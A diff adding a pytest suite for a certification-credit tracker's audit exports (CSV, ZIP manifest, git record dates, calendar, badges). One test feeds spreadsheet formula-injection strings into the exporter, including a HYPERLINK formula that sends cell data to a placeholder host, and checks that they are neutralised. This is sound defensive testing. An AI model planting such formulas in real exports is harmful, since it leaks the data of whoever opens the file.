@@ -1,0 +1,249 @@
+"""Audit exports: the CSV against summary.json, formula injection, the ZIP
+and its manifest, git record dates, the calendar and the badges."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import hashlib
+import io
+import json
+import os
+import subprocess
+import zipfile
+from decimal import Decimal
+from xml.etree import ElementTree
+
+import icalendar
+import pytest
+
+from recertgen.exports.audit import COLUMNS
+
+SPEC_COLUMNS = ["certification", "cycle_start", "cycle_end", "date", "title", "provider", "credits", "unit", "category",
+                "hours", "delivery", "field_of_study", "state", "source", "proof", "proof_sha256", "entry_file", "recorded_at"]
+
+
+def read_csv(path):
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+@pytest.fixture
+def two_certs(ledger):
+    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
+    ledger.cert("cisa", "name: CISA\nprogram: isaca-cisa\ncertified: 2023-06-10\n")
+    ledger.write("ledger/proof/2025/talk.pdf", b"%PDF-1.4 talk")
+    ledger.write("ledger/proof/2025/course.pdf", b"%PDF-1.4 course")
+    ledger.credit("2025/talk", """
+        title: "Sécurité des API — 日本語, \\"quoted\\""
+        provider: OWASP Paris
+        date: 2025-03-14
+        minutes: 100
+        delivery: webinar
+        counts_toward: [cissp, cisa]
+        proof: 2025/talk.pdf
+        source: linkedin-learning
+    """)
+    ledger.credit("2025/course", """
+        title: Cloud audit course
+        provider: ISACA
+        date: 2025-06-01
+        hours: 8
+        counts_toward: {cisa: 8}
+        proof: 2025/course.pdf
+    """)
+    ledger.credit("2026/reading", """
+        title: Book
+        provider: Wiley
+        date: 2026-02-01
+        hours: 5
+        delivery: reading
+        counts_toward: {cissp: {credits: 5, category: group-b}}
+        proof: https://example.org/notes
+    """)
+    return ledger
+
+
+def build(cli, ledger, out=None):
+    args = ["build", ledger.root, "--as-of", "2026-11-15"] + (["--out", out] if out else [])
+    result = cli(*args)
+    assert result.exit_code == 0, result.output
+    return out or ledger.root / "site"
+
+
+def test_csv_columns_rows_and_totals_match_summary(two_certs, cli):
+    site = build(cli, two_certs)
+    assert list(COLUMNS) == SPEC_COLUMNS
+    raw = (site / "audit.csv").read_bytes()
+    assert raw.startswith(b"certification,cycle_start,")  # UTF-8, no byte-order mark
+    assert b"\r\n" in raw
+    rows = read_csv(site / "audit.csv")
+    assert list(rows[0].keys()) == SPEC_COLUMNS
+    assert [(r["certification"], r["date"]) for r in rows] == [
+        ("cisa", "2025-03-14"), ("cisa", "2025-06-01"), ("cissp", "2025-03-14"), ("cissp", "2026-02-01"),
+    ]
+    summary = json.loads((site / "summary.json").read_text())
+    for cert in summary["certifications"]:
+        in_cycle = [r for r in rows if r["certification"] == cert["id"] and r["cycle_start"] == cert["cycle"]["start"]]
+        assert sum(Decimal(r["credits"]) for r in in_cycle) == Decimal(str(cert["earned"]))
+    talk = rows[0]
+    assert talk["title"] == 'Sécurité des API — 日本語, "quoted"'
+    assert talk["credits"] == "2.00" and talk["hours"] == "1.67" and talk["unit"] == "CPE"
+    assert talk["proof"] == "ledger/proof/2025/talk.pdf"
+    assert talk["proof_sha256"] == hashlib.sha256(b"%PDF-1.4 talk").hexdigest()
+    assert talk["entry_file"] == "ledger/credits/2025/talk.yaml"
+    assert talk["source"] == "linkedin-learning"
+    assert talk["recorded_at"] == ""  # not a git repository
+    book = rows[3]
+    assert (book["category"], book["proof"], book["proof_sha256"]) == ("group-b", "https://example.org/notes", "")
+
+
+def test_per_certification_csv(two_certs, cli):
+    site = build(cli, two_certs)
+    rows = read_csv(site / "certifications" / "cisa" / "audit.csv")
+    assert {r["certification"] for r in rows} == {"cisa"} and len(rows) == 2
+
+
+INJECTIONS = {
+    "=1+1": "'=1+1",
+    "+SUM(A1:A9)": "'+SUM(A1:A9)",
+    "-2+3": "'-2+3",
+    "@cmd": "'@cmd",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    '=HYPERLINK("http://x.invalid/?"&A1,"x")': '\'=HYPERLINK("http://x.invalid/?"&A1,"x")',
+    "a=b": "a=b",
+    "Plain title": "Plain title",
+}
+
+
+@pytest.mark.parametrize("title", sorted(INJECTIONS))
+def test_formula_cells_are_neutralised(ledger, cli, title):
+    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
+    ledger.credit("x", f"title: {json.dumps(title)}\nprovider: {json.dumps(title)}\ndate: 2025-03-14\nhours: 1\ncounts_toward: [cissp]\n")
+    site = build(cli, ledger)
+    (row,) = read_csv(site / "audit.csv")
+    assert row["title"] == INJECTIONS[title]
+    assert row["provider"] == INJECTIONS[title]
+    assert row["credits"] == "1.00"  # numbers are never touched
+
+
+def test_export_csv_filters(two_certs, cli, tmp_path):
+    everything = cli("export", "csv", two_certs.root, "--as-of", "2026-11-15")
+    assert everything.exit_code == 0
+    assert len(list(csv.DictReader(io.StringIO(everything.output)))) == 4
+    result = cli("export", "csv", two_certs.root, "--cert", "cisa", "--from", "2025-04-01", "--to", "2025-12-31", "--as-of", "2026-11-15")
+    rows = list(csv.DictReader(io.StringIO(result.output)))
+    assert [(r["certification"], r["date"]) for r in rows] == [("cisa", "2025-06-01")]
+    external = cli("export", "csv", two_certs.root, "--source", "external", "-o", tmp_path / "ext.csv", "--as-of", "2026-11-15")
+    assert external.exit_code == 0
+    assert {r["title"] for r in read_csv(tmp_path / "ext.csv")} == {"Cloud audit course", "Book"}
+    assert cli("export", "csv", two_certs.root, "--cert", "cism").exit_code == 2
+
+
+def test_export_refuses_a_ledger_with_errors(two_certs, cli):
+    two_certs.credit("bad", "title: x\n")
+    assert cli("export", "csv", two_certs.root).exit_code == 1
+
+
+def test_zip_is_byte_identical_and_its_manifest_matches(two_certs, cli, tmp_path):
+    one = build(cli, two_certs, tmp_path / "one")
+    two = build(cli, two_certs, tmp_path / "two")
+    assert (one / "certificates.zip").read_bytes() == (two / "certificates.zip").read_bytes()
+    with zipfile.ZipFile(one / "certificates.zip") as archive:
+        names = archive.namelist()
+        manifest = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8"))))
+        assert names[0] == "manifest.csv"
+        assert sorted(m["file"] for m in manifest) == sorted(names[1:])
+        for m in manifest:
+            assert hashlib.sha256(archive.read(m["file"])).hexdigest() == m["sha256"]
+        assert all(info.date_time == (1980, 1, 1, 0, 0, 0) for info in archive.infolist())
+    assert sorted(names[1:]) == [
+        "cisa/2024-01-01_2026-12-31/2025-03-14_talk.pdf",
+        "cisa/2024-01-01_2026-12-31/2025-06-01_course.pdf",
+        "cissp/2024-03-15_2027-03-14/2025-03-14_talk.pdf",
+    ]
+
+
+def test_export_certificates_for_one_certification(two_certs, cli, tmp_path):
+    result = cli("export", "certificates", two_certs.root, "--cert", "cissp", "-o", tmp_path / "c.zip")
+    assert result.exit_code == 0
+    with zipfile.ZipFile(tmp_path / "c.zip") as archive:
+        assert [n for n in archive.namelist() if n != "manifest.csv"] == ["cissp/2024-03-15_2027-03-14/2025-03-14_talk.pdf"]
+
+
+def git(root, *args, date=None):
+    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"}
+    if date:
+        env.update(GIT_AUTHOR_DATE=f"{date}T12:00:00+00:00", GIT_COMMITTER_DATE=f"{date}T12:00:00+00:00")
+    subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@example.org", *args], cwd=root, env=env, check=True, capture_output=True)
+
+
+def test_recorded_at_is_the_first_commit_of_each_file(ledger, cli):
+    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
+    git(ledger.root, "init", "-q")
+    ledger.credit("on-time", "title: On time\nprovider: P\ndate: 2025-01-05\nhours: 1\ncounts_toward: [cissp]\n")
+    git(ledger.root, "add", "-A")
+    git(ledger.root, "commit", "-qm", "first", date="2025-01-10")
+    ledger.credit("late", "title: Late\nprovider: P\ndate: 2025-03-01\nhours: 1\ncounts_toward: [cissp]\n")
+    git(ledger.root, "add", "-A")
+    git(ledger.root, "commit", "-qm", "second", date="2025-06-01")
+    ledger.credit("on-time", "title: On time\nprovider: P\ndate: 2025-01-05\nhours: 2\ncounts_toward: [cissp]\n")
+    git(ledger.root, "commit", "-qam", "edit", date="2025-09-09")
+    site = build(cli, ledger)
+    rows = {r["title"]: r for r in read_csv(site / "audit.csv")}
+    assert rows["On time"]["recorded_at"] == "2025-01-10"
+    assert rows["Late"]["recorded_at"] == "2025-06-01"
+    audit = (site / "audit" / "index.html").read_text()
+    assert "recorded 92 days after the activity" in audit
+    assert "recorded 5 days after" not in audit
+    assert "Documentation debt" in (site / "index.html").read_text()
+
+
+def test_recorded_at_in_a_ledger_below_the_repository_top(tmp_path, cli):
+    top = tmp_path / "top"
+    root = top / "people" / "dana"
+    (root / "ledger" / "certifications").mkdir(parents=True)
+    (root / "ledger" / "certifications" / "cissp.yaml").write_text("name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
+    (root / "ledger" / "credits").mkdir()
+    (root / "ledger" / "credits" / "a.yaml").write_text("title: A\nprovider: P\ndate: 2025-01-05\nhours: 1\ncounts_toward: [cissp]\n")
+    git(top, "init", "-q")
+    git(top, "add", "-A")
+    git(top, "commit", "-qm", "x", date="2025-02-20")
+    result = cli("export", "csv", root, "--as-of", "2026-01-01")
+    (row,) = list(csv.DictReader(io.StringIO(result.output)))
+    assert row["recorded_at"] == "2025-02-20"
+
+
+def test_deadlines_calendar_parses_and_lists_every_deadline(two_certs, cli):
+    site = build(cli, two_certs)
+    data = (site / "deadlines.ics").read_bytes()
+    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
+    calendar = icalendar.Calendar.from_ical(data)
+    events = {(str(e["SUMMARY"]), e["DTSTART"].dt) for e in calendar.walk("VEVENT")}
+    assert ("CISSP: renewal cycle ends (120.00 CPE required)", dt.date(2027, 3, 14)) in events
+    assert ("CISA: renewal cycle ends (120.00 CPE required)", dt.date(2026, 12, 31)) in events
+    for year in (2024, 2025, 2026):
+        assert ("CISA: annual minimum of 20.00 CPE due", dt.date(year, 12, 31)) in events
+    assert len({str(e["UID"]) for e in calendar.walk("VEVENT")}) == len(calendar.walk("VEVENT"))
+
+
+def test_badges(two_certs, cli):
+    site = build(cli, two_certs)
+    svg = (site / "badges" / "cissp.svg").read_text()
+    root = ElementTree.fromstring(svg)
+    texts = [t.text for t in root.iter("{http://www.w3.org/2000/svg}text")]
+    assert texts[0] == "CISSP"
+    assert texts[1] == "6.50/120 · behind 917d"
+
+
+def test_proof_coverage_is_shown(two_certs, cli):
+    site = build(cli, two_certs)
+    assert "2 of 2 entries have proof" in (site / "certifications" / "cisa" / "index.html").read_text()
+    assert "2 of 2 entries have proof" in (site / "index.html").read_text()
+
+
+def test_entry_page_shows_the_proof_digest(two_certs, cli):
+    site = build(cli, two_certs)
+    page = (site / "credits" / "course" / "index.html").read_text()
+    assert hashlib.sha256(b"%PDF-1.4 course").hexdigest() + " (not recorded in the ledger)" in page
